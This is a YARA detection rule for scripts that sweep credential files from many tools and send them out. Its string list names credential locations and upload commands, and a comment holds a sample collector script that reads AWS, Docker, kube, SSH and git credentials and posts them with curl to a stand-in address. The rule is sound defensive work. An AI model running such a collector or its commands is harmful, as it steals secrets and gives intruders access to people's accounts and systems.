rule credential_sweep_script : text
{
    meta:
        title = "collect credentials and send them away"
        explanation = "A script names the places where half a dozen different tools keep their credentials, and a way to send something out. A tool reads its own file; only a thief reads everybody's. Rotate what it could reach."
        class = "malware"
        severity = "critical"
        confidence = "medium"
        attack = "T1552.001, T1552.004"
        reference = "https://attack.mitre.org/techniques/T1552/001/"
    strings:
        $place_aws = ".aws/credentials"
        $place_docker = ".docker/config.json"
        $place_kube = ".kube/config"
        $place_ssh = ".ssh/id_rsa"
        $place_ed = ".ssh/id_ed25519"
        $place_git = ".git-credentials"
        $place_netrc = ".netrc"
        $place_npm = ".npmrc"
        $place_pypi = ".pypirc"
        $place_gcloud = "gcloud/credentials.db"
        $place_gcloud2 = "application_default_credentials.json"
        $place_azure = ".azure/accessTokens.json"
        $place_shadow = "/etc/shadow"
        $place_s3 = ".s3cfg"
        $place_pg = ".pgpass"
        $place_env = "/proc/*/environ"
        $place_sa = "kubernetes.io/serviceaccount/token"
        $place_history = ".bash_history"
        $place_imds = "169.254.169.254"
        $all_python = "dict(os.environ)"
        $all_node = "JSON.stringify(process.env)"
        $send1 = "curl -F"
        $send2 = "--data-binary @"
        $send3 = "-X POST"
        $send4 = "--post-file"
        $send5 = "requests.post("
        $send6 = "| nc "
        $send7 = "--upload-file"
        $send8 = "urlopen("
        $send9 = "curl -T"
        $send10 = "https.request("
    condition:
        filesize < 128KB and uint32(0) != 0x464c457f and (6 of ($place_*) or (1 of ($place_env, $all_*) and 4 of ($place_*))) and 1 of ($send*)
}

/* example: fires on a collector
    FILE /c.sh 0755
        #!/bin/sh
        for f in .aws/credentials .docker/config.json .kube/config .ssh/id_rsa .git-credentials .netrc; do cat /root/$f; done > /tmp/o
        curl -F file=@/tmp/o http://192.0.2.5/up
*/
/* example: quiet on a backup that names two of them
    FILE /backup.sh 0755
        #!/bin/sh
        tar cz /root/.kube/config /root/.aws/credentials | curl -T - https://backup.example.org/
*/
